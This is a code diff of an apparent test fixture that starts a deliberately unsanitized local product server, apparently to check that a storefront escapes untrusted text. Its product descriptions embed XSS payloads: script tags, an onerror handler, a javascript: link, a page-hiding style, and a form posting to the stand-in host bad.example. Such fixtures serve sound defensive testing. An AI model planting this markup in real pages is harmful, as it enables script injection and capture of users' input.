@@ -2,7 +2,7 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { hostileStrings } from './hostileStrings.ts'
 
-/** Names that break addresses, selects and JSON when they are not written with care. */
+/** Names that break addresses, selects and JSON unless they are escaped. */
 export const CATEGORIES = [
   'Clothing, Shoes & Jewelry',
   'Home/Garden',
@@ -23,7 +23,7 @@ const PICTURES = [
   'http://',
 ]
 
-/** A host that cleans nothing, as an ERP with data of many hands. */
+/** Starts a host that sanitizes nothing. */
 export async function openHostileHost() {
   const strings = hostileStrings()
   const products = strings.map((text, index) => ({
@@ -37,7 +37,10 @@ export async function openHostileHost() {
     images: PICTURES,
     rating: index % 6,
     reviews: index,
-    description: `<p>${text}</p><script>ran()</script><img src=x onerror="ran()"><a href="javascript:ran()">${text}</a><style>* { display: none }</style><form action="https://bad.example"><input></form>`,
+    description:
+      `<p>${text}</p><script>ran()</script><img src=x onerror="ran()"><a ` +
+      `href="javascript:ran()">${text}</a><style>* { display: none }</style><form ` +
+      'action="https://bad.example"><input></form>',
     in_stock: index % 4 === 0 ? 0 : 1,
     is_featured_product: index < 6 ? 1 : 0,
     features: [text, '', text],
